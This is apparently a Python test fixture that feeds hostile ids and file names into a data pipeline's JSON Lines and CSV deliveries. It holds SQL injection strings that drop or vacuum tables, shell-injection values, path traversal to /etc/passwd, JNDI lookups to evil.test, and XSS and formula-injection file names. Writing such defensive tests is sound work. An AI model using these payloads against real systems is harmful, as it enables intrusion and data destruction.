"""What somebody hostile could send as an id or call a file, and deliveries full of it."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from tests.faults.mutator import FIRST, SIX
from tests.report.payloads import HOSTILE

PWNED = "PWNED"
"""A file of this name appears when a command in one of the texts is carried out."""

SQL = [
    "'; DROP TABLE silver.events; --",
    '"; DROP TABLE silver.events; --',
    "' OR '1'='1",
    "1; DELETE FROM gold.placement_daily",
    "') UNION SELECT payload FROM silver.quarantine --",
    "\\'; VACUUM silver.events RETAIN 0 HOURS; --",
    "`; DROP TABLE bronze.events; `",
    "b1' /* ",
    "%' ESCAPE '!",
    "${spark.home}",
    "${env:PATH}",
    "${system:user.home}",
    "{{ 1 + 1 }}",
    ":name ? $1 @x",
]
COMMANDS = [
    f"$(touch {PWNED})",
    f"`touch {PWNED}`",
    f"; touch {PWNED} #",
    f"| touch {PWNED}",
    f"&& touch {PWNED}",
]
PATHS = [
    "../../../../../etc/passwd",
    "/etc/passwd",
    "..",
    ".",
    "~root",
    "file:///etc/passwd",
    "a%2fb",
    "a\\b",
    "day=2026-03-01/x.parquet",
    "_delta_log",
    "__HIVE_DEFAULT_PARTITION__",
    "http://evil.test/",
    "${jndi:ldap://evil.test/x}",
    "%{jndi:dns://evil.test}",
    "x" * 256,
]
TEXTS = list(dict.fromkeys([*HOSTILE, *SQL, *COMMANDS, *PATHS]))

NAMES = [
    *(
        "'; DROP TABLE x; --.jsonl",
        f"$(touch {PWNED}).jsonl",
        f"`touch {PWNED}`.csv",
        "=1+1.csv",
        "@SUM(A1).jsonl",
    ),
    *(
        "<img src=x onerror=alert(1)>.jsonl",
        '"><script>alert(1)<.jsonl',
        "[a-z]*?.jsonl",
        "{a,b}.csv",
        "a b%20c#d?e.jsonl",
    ),
    *(
        "--help.jsonl",
        "new\nline.jsonl",
        "${env:PATH}.jsonl",
        "\u202elnosj.jsonl",
        "s3:a.csv",
        "back\\slash.jsonl",
    ),
]


def deliveries(texts: list[str], names: list[str]) -> dict[str, bytes]:
    """Every text as every id, in JSON Lines and in CSV, as an unknown field, and in refused records; the
    files are called by the names.
    """
    held = {name: b"" for name in names if name.endswith((".jsonl", ".csv"))}
    for place, name in enumerate(held):
        rows = [_event(text, place) for text in texts[place :: len(held)]]
        held[name] = _csv(rows) if name.endswith(".csv") else _json_lines(rows)
    return held


def _event(text: str, place: int) -> dict[str, Any]:
    ids = (f"banner {text}"[:256], text, text, text)
    return dict(zip(SIX, (FIRST + 60 * place, place % 2, *ids), strict=True))


def _json_lines(rows: list[dict[str, Any]]) -> bytes:
    lines = [json.dumps(row) for row in rows]
    lines += [json.dumps(row | {row["user_id"]: row["user_id"]}) for row in rows[::9]]
    lines += [json.dumps(row | {"event_type": row["user_id"]}) for row in rows[::29]]
    lines += [row["user_id"] for row in rows[::29]]
    return "\n".join(lines).encode()


def _csv(rows: list[dict[str, Any]]) -> bytes:
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, SIX)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()
